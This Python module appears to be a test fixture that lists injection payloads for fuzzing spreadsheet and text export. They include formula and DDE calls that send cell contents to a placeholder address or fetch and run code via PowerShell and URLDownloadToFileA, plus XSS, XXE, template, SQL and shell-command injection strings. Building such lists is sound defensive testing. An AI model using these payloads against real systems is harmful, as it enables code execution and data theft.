"""Texts by which people try to make a program run: families that are known from the open, each written out here.

None of them does harm as text. Addresses are those that no machine has (RFC 2606, RFC 5737).
"""

_CALLS = (
    "1+1", "SUM(1+1)", "SUM(A1:A9)", "NOW()", "RAND()", "1/0", "A1", "A1&B1", "B2*3", "TRUE", '"text"', "{1,2;3,4}",
    'HYPERLINK("http://192.0.2.1/?q="&A1,"Click here")', 'HYPERLINK("javascript:alert(1)","open")',
    'IMPORTXML("http://192.0.2.1/"&A1,"//a")', 'IMPORTDATA("http://192.0.2.1/x.csv")',
    'IMPORTHTML("http://192.0.2.1/","table",1)', 'IMPORTFEED("http://192.0.2.1/feed")',
    'IMPORTRANGE("1abc","Sheet1!A1:Z99")', 'IMAGE("http://192.0.2.1/pixel.png?"&A1)',
    'WEBSERVICE("http://192.0.2.1/"&A1)', 'FILTERXML(WEBSERVICE("http://192.0.2.1/"),"//x")',
    'GOOGLEFINANCE("X")', 'GOOGLETRANSLATE(A1,"en","fr")', 'QUERY(A1:Z99,"select *")', "ARRAYFORMULA(A1:A9)",
    'INDIRECT("changes!A1")', "cmd|' /C calc'!A0", "cmd|'/c powershell IEX(wget 192.0.2.1/x)'!A1",
    'MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""', 'rundll32|\'url.dll,OpenURL calc.exe\'!A',
    'DDE("cmd";"/C calc";"x")', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://192.0.2.1/x","x",0,0)', 'EXEC("calc.exe")',
    'REGISTER("kernel32","WinExec","JCJ","run")', 'LAMBDA(x,x+1)(1)', 'LET(a,1,a+1)', 'CONCATENATE(A1:Z9)',
    'VLOOKUP(A1,volunteers!A:Z,4,FALSE)', "SHELL(\"calc\")", "EVALUATE(A1)", "SPARKLINE(A1:A9)",
)  # fmt: skip
_BEFORE = ("=", "+", "-", "@")
_SIGNS = (
    "=", "+", "-", "@", "==1+1", "=+1", "=-1", "=@SUM(1)", "-1", "+1", "-1+1", "+44 1225 496000", "01225496000",
    "007", "1e5", "1E400", "1/2", "2026-11-23", "12:30", "50%", "£5", "TRUE", "false", "#REF!", "#N/A", "'=1+1", "''",
    '"=1+1"', '"";=1+1', '",=1+1', '"\n=1+1', "x\n=1+1", "x\r\n=1+1", "x\t=1+1", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1\u202c", "\x00=1+1",
    "=1+1\x00", "\x0b=1+1", "\x0c=1+1", "\x1b[31m=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1",
    "−1+1", "‐1+1", "=\u200b1+1", "=１+１", "=1+1;", "=1+1|", "%0A=1+1", "%3D1%2B1", "&#61;1+1", "\\u003d1+1",
    "=cmd|' /C notepad'!'A1'", '=HYPERLINK("http://192.0.2.1","a")&"x"', "a,b;c\td|e", '"quoted", "twice"', "'; --",
    "\u2066=1+1\u2069", "=" * 300, "=" + "1+" * 500 + "1",
)  # fmt: skip
_ELSEWHERE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '"><b onmouseover=alert(1)>x',
    "<a href='javascript:alert(1)'>x</a>", "<iframe src=//192.0.2.1></iframe>", "<style>@import '//192.0.2.1'</style>",
    "</textarea><script>alert(1)</script>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&amp;", "<t>x</t>",
    "<f>1+1</f>", '<c t="str"><f>1+1</f></c>', "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>",
    "[x](javascript:alert(1))", "![x](http://192.0.2.1/pixel.png)", "[x]: http://192.0.2.1", "**bold** _it_ `code`",
    "# heading", "---\ntitle: x\n---", "| a | b |\n|---|---|", "```\ncode\n```", "<details open>x</details>",
    ":red[x]", ":material/home:", ":blue-background[x]", "$\\frac{1}{2}$", "$$x$$", "\\input{/etc/hosts}",
    "\\write18{ls}", "\\href{javascript:alert(1)}{x}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include x %}",
    "{0.__class__}", "%s%s%n", "%(name)s", "__import__('os').system('x')", "$(touch x)", "`touch x`", "; rm -r x",
    "| cat x", "&& ls", "../../../../etc/hosts", "C:\\Windows\\x", "\\\\192.0.2.1\\share", "file:///etc/hosts",
    "' OR '1'='1", "'; DROP TABLE volunteers; --", "1 UNION SELECT 1", "admin'/*", '{"$gt": ""}', "*)(uid=*",
    '{"i":"V-0000-0000-0","t":"x","b":"x","v":{}}', "sync_1", "erasures", "V-0000-0000-0", "null", "None", "undefined",
    "NaN", "Infinity", "[object Object]", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "http://192.0.2.1/?a=b&c=d", "x@example.org\nBcc: y@example.org", "x\r\nSet-Cookie: a=b", "\u202egnp.exe",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b", "👩‍👩‍👧‍👦", "\U0001f3f4\U000e0067\U000e007f", "ﷺ", "\ud7ff\ue000\ufffd",
    "x" * 5_000, "…" * 2_000, "'" * 400, '"' * 401, ",;\t|" * 300, "\\" * 333,
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys([*(f"{sign}{call}" for call in _CALLS for sign in ("=",)),
                   *(f"{sign}{call}" for call in _CALLS[::4] for sign in _BEFORE), *_SIGNS, *_ELSEWHERE])
)  # fmt: skip
